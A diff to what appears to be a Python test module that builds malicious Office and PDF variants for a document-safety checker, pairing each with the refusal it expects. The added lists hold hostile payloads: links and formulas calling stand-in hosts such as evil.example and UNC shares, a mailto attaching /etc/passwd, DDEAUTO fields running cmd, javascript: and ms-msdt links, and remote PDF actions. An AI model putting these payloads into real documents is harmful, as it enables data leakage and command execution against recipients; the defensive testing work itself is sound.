@@ -422,8 +422,11 @@ def a_part_from_outside_that_says_it_is_inside(content: bytes, random: Random) -
 
 ODD = ("javascript:alert(1)", "java&#9;script:alert(1)", "\u200bJavaScript:x", "vbscript:x", "data:text/html,x",
        "ms-msdt:/id%20PCWDiagnostic", "search-ms:query=a", "mhtml:http://a!b", "shell:startup",
-       "ms-word:ofe|u|http://a", "\\\\evil\\share",
-       "//evil/share", "file://evil/share/a", "%5C%5Cevil/a", "/\\evil/a", "ldap://evil")  # fmt: skip
+       "ms-word:ofe|u|http://a",
+       "\\\\evil\\share", "//evil/share", "file://evil/share/a", "%5C%5Cevil/a", "/\\evil/a", "ldap://evil",
+       "https://www.moi.go.th@evil.example/", "http:\\\\www.moi.go.th\\@evil.example",
+       "mailto:a@evil.example?subject=a&amp;attach=/etc/passwd", "https://evil.example/\u202efdp.exe",
+       "calc.exe", "../a.lnk", "file:///C:/Windows/System32/calc.exe")  # fmt: skip
 
 
 @attack("links", refusals.OddLink, *OFFICE)
@@ -549,8 +552,10 @@ CALLS = ['_xlfn.WEBSERVICE("http://evil.example/"&amp;A1)', 'RTD("a.b",,"c")', '
          'REGISTER.ID("a","b")', 'IMPORTXML("http://evil.example","//a")', '_xlfn.IMPORTTEXT("http://evil.example/a")',
          "I&#77;AGE(A1)", "IM<!-- -->AGE(A1)", "<![CDATA[IMAGE(A1)]]>",
          # What a name or a text is taken for does not hide a call.
-         "'a\"b'!A1+WEBSERVICE(\"x\")", "SUM(T['#a])+WEBSERVICE(A1&amp;T['#b])",
-         '"it\'s"&amp;IMAGE("\'!")']  # fmt: skip
+         "_xlfn.MAP(A1:A9,_xleta.IMAGE)", '_xlfn.LET(_xlpm.f,_xlfn.WEBSERVICE,_xlpm.f("http://evil.example"))',
+         'FILES("\\\\evil\\share\\*")',
+         "'a\"b'!A1+WEBSERVICE(\"x\")",
+         "SUM(T['#a])+WEBSERVICE(A1&amp;T['#b])", '"it\'s"&amp;IMAGE("\'!")']  # fmt: skip
 
 
 @attack("formulas", refusals.FetchesData, EXCEL)
@@ -589,6 +594,26 @@ def a_name_that_calls_out(content: bytes, random: Random) -> bytes:
 def a_formula_whose_link_acts(content: bytes, random: Random) -> bytes:
     place = random.choice([place for place in ODD if "&" not in place])
     return _sheet(content, random.choice(['HYPERLINK("{}","a")', 'IF(1,HYPERLINK( "{}"))']).format(place))
+
+
+# LibreOffice takes each for a link to that workbook, without a part that declares it.
+WORKBOOKS = ("'http://evil.example/[a.xlsx]S'!A1", "'\\\\evil\\share\\[a.xlsx]S'!A1", "1+[a.xlsx]S!A1",
+             "'file:///evil/[it''s.xlsx]S'!A1", "[a.xlsx]!Name", "&apos;http://evil.example/[a.xlsx]S&apos;!A1",
+             "'http://evil.example/&#91;a.xlsx]S'!A1")  # fmt: skip
+
+
+@attack("formulas", refusals.LinkedWorkbook, EXCEL)
+def a_formula_over_another_workbook(content: bytes, random: Random) -> bytes:
+    return _sheet(content, random.choice(WORKBOOKS))
+
+
+COMPUTED = ('HYPERLINK(IF(A1=1,"\\\\evil\\share"),"a")', 'HYPERLINK("java"&amp;"script:alert(1)")',
+            'HYPERLINK(A1&amp; "file://evil/a")')  # fmt: skip
+
+
+@attack("formulas", refusals.OddLink, EXCEL)
+def a_formula_that_puts_a_link_together(content: bytes, random: Random) -> bytes:
+    return _sheet(content, random.choice(COMPUTED))
 
 
 # --- what a workbook fetches by itself -------------------------------------------------------------------------------
@@ -644,6 +669,12 @@ def a_sheet_that_publishes_itself(content: bytes, random: Random) -> bytes:
 
 
 @attack("fetching", refusals.FetchesData, EXCEL)
+def a_workbook_that_publishes_itself(content: bytes, random: Random) -> bytes:
+    item = '<webPublishObjects count="1"><webPublishObject id="1" divId="a" destinationFile="\\\\evil\\a" autoRepublish="1"/></webPublishObjects></workbook>'  # noqa: E501
+    return files.changed(content, "xl/workbook.xml", "</workbook>", item)
+
+
+@attack("fetching", refusals.FetchesData, EXCEL)
 def data_of_a_linked_kind(content: bytes, random: Random) -> bytes:
     if random.random() < 0.5:
         kind = "application/vnd.ms-excel.rdrichvaluewebimage+xml"
@@ -677,6 +708,73 @@ def a_drawing_of_vml_filled_from_elsewhere(content: bytes, random: Random) -> by
     kind = random.choice(["imagedata", "fill"])
     drawing = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape><v:{kind} src="{random.choice(FAR)}"/><br></v:shape></xml>'  # noqa: E501
     return files.added(content, f"{folder}/drawings/vmlDrawing1.vml", drawing.encode())
+
+
+SHAPE = '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml" {}/></w:pict></w:r></w:p><w:sectPr'
+
+
+@attack("links", refusals.OddLink, WORD)
+def a_shape_that_leads_elsewhere(content: bytes, random: Random) -> bytes:
+    place = random.choice(ODD)
+    if random.random() < 0.5:
+        return files.changed(content, "word/document.xml", "<w:sectPr", SHAPE.format(f'href="{place}"'))
+    drawing = f'<xml xmlns:v="urn:schemas-microsoft-com:vml"><v:shape href="{place}"><br></v:shape></xml>'
+    return files.added(content, "word/drawings/vmlDrawing1.vml", drawing.encode())
+
+
+@attack("links", refusals.OddLink, *OFFICE)
+def a_place_where_all_links_begin(content: bytes, random: Random) -> bytes:
+    kind = "application/vnd.openxmlformats-officedocument.extended-properties+xml"
+    said = f"<Properties><HyperlinkBase>{random.choice(ODD)}</HyperlinkBase></Properties>"
+    return files.added(content, "docProps/more.xml", said.encode(), kind)
+
+
+@attack("fetching", refusals.LinkedContent, WORD)
+def a_film_played_by_a_web_page(content: bytes, random: Random) -> bytes:
+    film = '<w:p><wp15:webVideoPr xmlns:wp15="http://schemas.microsoft.com/office/word/2012/wordprocessingDrawing" embeddedHtml="&lt;iframe src=&quot;http://evil.example&quot;&gt;"/></w:p><w:sectPr'  # noqa: E501
+    return files.changed(content, "word/document.xml", "<w:sectPr", film)
+
+
+FETCHED_BY_SVG = ('<image xlink:href="http://evil.example/a.png"/>', '<use href="//evil/a.svg#a"/>',
+                  "<style>@import 'a.css';</style>", '<rect fill="url( http://evil.example/a#b)"/>',
+                  "<style>rect {{ fill: <!-- -->url(\"\\\\evil\\a\") }}</style>")  # fmt: skip
+DONE_BY_SVG = ("<script>alert(1)</script>", '<rect onload="alert(1)"/>', "<foreignObject/>")
+
+
+def _with_svg(content: bytes, inside: str) -> bytes:
+    _suffix, folder = folder_of(content)
+    svg = f'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">{inside}</svg>'
+    return files.added(content, f"{folder}/media/image9.svg", svg.encode(), "image/svg+xml")
+
+
+@attack("fetching", refusals.LinkedContent, *OFFICE)
+def a_drawing_that_fetches(content: bytes, random: Random) -> bytes:
+    return _with_svg(content, random.choice(FETCHED_BY_SVG))
+
+
+@attack("embedded", refusals.Embedded, *OFFICE)
+def a_drawing_that_acts(content: bytes, random: Random) -> bytes:
+    return _with_svg(content, random.choice(DONE_BY_SVG))
+
+
+@attack("links", refusals.OddLink, *OFFICE)
+def a_drawing_whose_link_acts(content: bytes, random: Random) -> bytes:
+    return _with_svg(content, f'<a xlink:href="{random.choice(ODD)}"/>')
+
+
+# Nothing between the name and what follows it.
+CLOSE = ('INCLUDEPICTURE"http://evil.example/a.png"', 'INCLUDETEXT"//evil/a.docx"', 'INCLUDEPICTURE\\d"//evil/a.png"',
+         'LINK"Excel.Sheet.12" "a"')  # fmt: skip
+
+
+@attack("fields", refusals.LinkedContent, WORD)
+def a_field_without_a_blank(content: bytes, random: Random) -> bytes:
+    return files.with_field(random.choice(CLOSE))
+
+
+@attack("fields", refusals.CommandField, WORD)
+def a_dde_field_without_a_blank(content: bytes, random: Random) -> bytes:
+    return files.with_field(random.choice(['DDEAUTO"cmd" "/c calc"', "DDE\u201ccmd\u201d"]))
 
 
 # --- add-ins ---------------------------------------------------------------------------------------------------------
@@ -828,6 +926,25 @@ def old_field_that_fetches(content: bytes, random: Random) -> bytes:
     return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})
 
 
+OLD_ODD = ("javascript:alert(1)", "VBScript:a", "\\\\evil\\share", "ms-msdt:/id")
+
+
+@attack("old links", refusals.OddLink, ".doc")
+def old_field_whose_link_acts(content: bytes, random: Random) -> bytes:
+    streams = files.streams(content)
+    raw = f'\x13 HYPERLINK "{random.choice(OLD_ODD)}"\x14'.encode(random.choice(["cp1252", "utf-16-le"]))
+    return files.compound({**streams, "WordDocument": streams["WordDocument"] + raw})
+
+
+@attack("old links", refusals.OddLink, ".xls")
+def old_link_that_acts(content: bytes, random: Random) -> bytes:
+    """MS-XLS 2.4.140: cells, a class, then the monikers."""
+    streams = files.streams(content)
+    place = random.choice(OLD_ODD).encode(random.choice(["cp1252", "utf-16-le"]))
+    link = bytes(8) + bytes(16) + struct.pack("<LLL", 2, 3, len(place)) + place
+    return files.compound({**streams, "Workbook": streams["Workbook"] + files.records((0x1B8, link))})
+
+
 @attack("old links", refusals.RemoteTemplate, ".doc")
 def old_template_from_outside(content: bytes, random: Random) -> bytes:
     streams = files.streams(content)
@@ -939,6 +1056,16 @@ def a_document_on_another_machine(document: pikepdf.Pdf, random: Random) -> None
     document.Root.OpenAction = Dictionary(S=Name.GoToR, F=held, D=Array([0, Name.Fit]))
 
 
+@pdf_attack("pdf actions", refusals.LinkedContent)
+def a_document_on_another_machine_for_one_system(document: pikepdf.Pdf, random: Random) -> None:
+    """Readers take the name that is meant for their system; a single stroke before a server is the format's own way."""
+    key, place = random.choice([("Unix", "//evil/a.pdf"), ("DOS", "\\\\evil\\a.pdf"), ("Mac", "//evil/a"),
+                                ("F", "//evil/a.pdf"), ("F", "/evil/share/a.pdf")])  # fmt: skip
+    held = Dictionary(Type=Name.Filespec, UF=String("a.pdf"))
+    held[f"/{key}"] = String(place)
+    document.pages[0].obj.Annots = _link(Dictionary(S=Name.GoToR, F=held, D=Array([0, Name.Fit])))
+
+
 def _link(action: Dictionary) -> Array:
     return Array([Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=action)])
 
@@ -986,6 +1113,14 @@ def something_done_for_an_event(document: pikepdf.Pdf, random: Random) -> None:
 @pdf_attack("pdf actions", refusals.PdfByItself)
 def something_done_behind_a_click(document: pikepdf.Pdf, random: Random) -> None:
     document.pages[0].obj.Annots = _link(Dictionary(S=Name.GoTo, D=Array([0]), Next=_doing(random)))
+
+
+@pdf_attack("pdf actions", refusals.PdfByItself)
+def something_done_at_a_step_of_a_presentation(document: pikepdf.Pdf, random: Random) -> None:
+    step = Dictionary(**{random.choice(["NA", "PA"]): _doing(random)})
+    if random.random() < 0.5:
+        step.Type = Name.NavNode
+    document.pages[0].obj.PresSteps = document.make_indirect(step) if random.random() < 0.5 else step
 
 
 @pdf_attack("pdf actions", refusals.PdfByItself)
